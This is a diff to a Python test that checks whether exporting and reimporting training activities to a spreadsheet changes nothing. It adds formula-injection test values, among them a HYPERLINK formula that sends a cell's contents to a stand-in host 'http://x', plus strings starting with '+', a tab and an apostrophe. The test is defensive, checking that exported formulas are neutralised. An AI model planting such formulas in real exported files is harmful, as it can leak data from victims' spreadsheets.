@@ -70,6 +70,11 @@ def test_exporting_and_reimporting_activities_and_participations_changes_nothing
         venue_partner=partner_a,
         trainers="A\nB",
         summary="Two days",
+        # Written behind a ' on export (no live formula), read back without it.
+        title='=HYPERLINK("http://x?x="&B3,"Open")',
+        description="+1+1",
+        notes="\tsee below",  # (a carriage return does not survive XLSX, formula or not)
+        outcomes="''-1",
     )
     training.themes.add(theme)
     factories.make_activity(
